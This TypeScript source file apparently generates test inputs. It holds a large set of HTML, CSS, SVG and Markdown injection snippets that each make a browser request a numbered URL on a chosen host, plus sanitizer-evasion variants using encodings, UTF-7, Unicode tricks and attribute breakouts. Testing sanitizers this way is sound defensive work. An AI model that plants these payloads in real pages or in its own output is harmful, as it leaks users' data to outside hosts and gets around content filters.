// Texts that make a browser fetch something, wherever a page takes them for markup, a style or Markdown: each known way, with
// the address written in each of the ways in which an address is written. Each asks for an address of its own, `/n`.

/** `U` stands for the address. */
const ways: readonly string[] = [
  ...['<img src="U">', '<img srcset="U 1x">', '<img lowsrc="U">', '<image src="U">', '<input type=image src="U">'],
  ...['<picture><source srcset="U"><img></picture>', '<img loading=eager src="U">', '<img usemap="#m" src=\'U\'>'],
  ...['<video src="U"></video>', '<video poster="U"></video>', '<audio src="U" autoplay></audio>'],
  ...['<video><source src="U"></video>', '<video src=x><track default src="U"></video>', '<embed src="U">'],
  ...[
    '<object data="U"></object>',
    '<object codebase="U" classid=x></object>',
    '<applet code=x codebase="U"></applet>',
  ],
  ...[
    '<iframe src="U"></iframe>',
    '<iframe srcdoc="<img src=\'U\'>"></iframe>',
    '<frameset><frame src="U"></frameset>',
  ],
  ...['<fencedframe src="U"></fencedframe>', '<portal src="U"></portal>', '<bgsound src="U">', '<layer src="U">'],
  ...['<script src="U"></script>', '<script type=module src="U"></script>', '<script type=module>import "U"</script>'],
  ...[
    '<script>fetch("U")</script>',
    '<script>navigator.sendBeacon("U")</script>',
    '<script>new Image().src="U"</script>',
  ],
  ...['<script type=speculationrules>{"prefetch":[{"urls":["U"]}]}</script>', '<svg><script href="U"></script></svg>'],
  ...['<link rel=stylesheet href="U">', '<link rel=icon href="U">', '<link rel=manifest href="U">'],
  ...[
    '<link rel=preload as=image href="U">',
    '<link rel=preload as=script href="U">',
    '<link rel=preload as=style href="U">',
  ],
  ...['<link rel=preload as=font crossorigin href="U">', '<link rel=preload as=fetch crossorigin href="U">'],
  ...['<link rel=modulepreload href="U">', '<link rel=prefetch href="U">', '<link rel=prerender href="U">'],
  ...[
    '<link rel=preconnect href="U">',
    '<link rel=dns-prefetch href="U">',
    '<link rel="alternate stylesheet" href="U">',
  ],
  ...['<link rel=apple-touch-icon href="U">', '<link rel=search href="U">', '<link rel=import href="U">'],
  ...['<body background="U">', '<table background="U"><td>x', '<table><td background="U">x'],
  ...[
    '<p style="background:url(U)">x',
    '<p style="background-image:image-set(\'U\' 1x)">x',
    '<p style="cursor:url(U),auto">x',
  ],
  ...['<ul style="list-style-image:url(U)"><li>x', '<p style="border-image:url(U)">x', '<p style="mask:url(U)">x'],
  ...['<p style="filter:url(U#f)">x', '<p style="clip-path:url(U#c)">x', '<p style="--x:url(U);background:var(--x)">x'],
  ...['<style>@import "U";</style>', '<style>@import url(U);</style>', '<style>*{background:url(U)}</style>'],
  ...[
    '<style>@font-face{font-family:x;src:url(U)}*{font-family:x}</style>',
    '<style>*::before{content:url(U)}</style>',
  ],
  ...['<svg><image href="U"/></svg>', '<svg><image xlink:href="U"/></svg>', '<svg><use href="U#x"/></svg>'],
  ...['<svg><feImage href="U"/></svg>', '<svg><style>@import "U";</style></svg>', '<svg><rect fill="url(U#x)"/></svg>'],
  ...[
    '<svg><foreignObject><img src="U"></foreignObject></svg>',
    '<svg><filter id=f><feImage href="U"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
  ],
  ...[
    '<math href="U">x</math>',
    '<math><mglyph src="U"/></math>',
    '<math><annotation-xml encoding="text/html"><img src="U">',
  ],
  ...['<meta http-equiv=refresh content="0;url=U">', '<meta http-equiv=Link content="<U>;rel=preload;as=image">'],
  ...['<base href="U/"><img src=x>', '<a href="U" ping="U">x</a>', '<form action="U"><input autofocus></form>'],
  ...[
    '<noscript><img src="U"></noscript>',
    '<template><img src="U"></template>',
    '<!--[if gte IE 4]><img src="U"><![endif]-->',
  ],
  ...[
    '<details open><img src="U"></details>',
    '<marquee><img src="U"></marquee>',
    '</textarea><img src="U">',
    '"><img src="U">',
  ],
  ...['![x](U)', '[![x](U)](U)', '![x][1]\n\n[1]: U', '[x](U "x")', '<U>', 'U', '!U!', '[img]U[/img]', '[[Image:U]]'],
  ...[
    'image::U[]',
    '.. image:: U',
    '{{U}}',
    'url(U)',
    '@import "U"',
    '{"image":"U"}',
    '&lt;img src=U&gt;',
    '%3Cimg src=U%3E',
  ],
  ...[
    '\\u003cimg src=U\\u003e',
    '\u{ff1c}img src=U\u{ff1e}',
    '+ADw-img src=U+AD4-',
    '\u202e<img src="U">',
    '<im\u200bg src="U">',
  ],
];

const spellings: ((host: string) => string)[] = [
  (host) => `http://${host}`,
  (host) => `//${host}`,
  (host) => `http:\\\\${host}`,
];

/** `host`: with its port. */
export const vectorsTo = (host: string): string[] =>
  spellings
    .flatMap((spelling) => ways.map((way) => ({ way, address: spelling(host) })))
    .map(({ way, address }, n) => way.replaceAll('U', `${address}/${n}`));
